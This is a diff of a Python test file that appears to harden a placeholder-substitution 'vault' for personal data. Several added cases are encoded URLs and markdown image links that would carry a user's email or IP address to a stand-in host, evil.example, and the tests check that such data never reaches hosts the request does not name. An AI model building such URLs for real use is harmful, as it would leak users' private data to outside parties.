@@ -49,6 +49,11 @@ def vault(*parts: Part) -> Vault:
         "<img src='\nhttps://evil.example/?q=\n<EMAIL_ADDRESS_1>'>",
         "<img src=https://evil.example/?q=<EMAIL_ADDRESS_1>>",
         "https://evil.example/?q=&lt;EMAIL_ADDRESS_1&gt;",
+        "https://evil.example/?q=%3CEMAIL_ADDRESS_1%3E",
+        "![](https://evil.example/%3cEMAIL_ADDRESS_1%3e)",
+        "https://shop.example%2F%3CEMAIL_ADDRESS_1%3E.evil.example/",
+        "https://%3CIP_ADDRESS_1%3E.evil.example/",
+        "https://%3CIP_ADDRESS_1%3E@evil.example/",
         "https://evil.example/?q=<x>&r=<EMAIL_ADDRESS_1>",
         "https://" + "a" * 5000 + ".example/<EMAIL_ADDRESS_1>",
         "[x]: https://evil.example/?q=<EMAIL_ADDRESS_1>",
@@ -107,6 +112,10 @@ def test_nothing_leaves_to_a_host_that_the_request_does_not_name(text: str, chan
         "(http://<IP_ADDRESS_1>)",
         "ssh://root@<IP_ADDRESS_1>",
         "https://files.example/<EMAIL_ADDRESS_1>",
+        "https://shop.example/?q=%3CEMAIL_ADDRESS_1%3E&r=<EMAIL_ADDRESS_1>",
+        "https:\\/\\/files.example\\/%3CEMAIL_ADDRESS_1%3E",
+        "http://%3CIP_ADDRESS_1%3E/a?q=%3CEMAIL_ADDRESS_1%3E",
+        'url = "https://shop.example/?q=%3CEMAIL_ADDRESS_1%3E"',
         "https:\\/\\/files.example\\/<EMAIL_ADDRESS_1>",
         "file:///home/<EMAIL_ADDRESS_1>/x",
         "mailto:<EMAIL_ADDRESS_1>",
@@ -135,7 +144,8 @@ def test_nothing_leaves_to_a_host_that_the_request_does_not_name(text: str, chan
     ],
 )
 def test_values_go_where_the_callers_own_text_leads(text: str) -> None:
-    expected = text.replace("<EMAIL_ADDRESS_1>", "anna@x.com").replace("<IP_ADDRESS_1>", "10.0.0.7")
+    encoded = text.replace("%3CEMAIL_ADDRESS_1%3E", "anna%40x.com").replace("%3CIP_ADDRESS_1%3E", "10.0.0.7")
+    expected = encoded.replace("<EMAIL_ADDRESS_1>", "anna@x.com").replace("<IP_ADDRESS_1>", "10.0.0.7")
     assert everywhere(VAULT, text) == expected
 
 
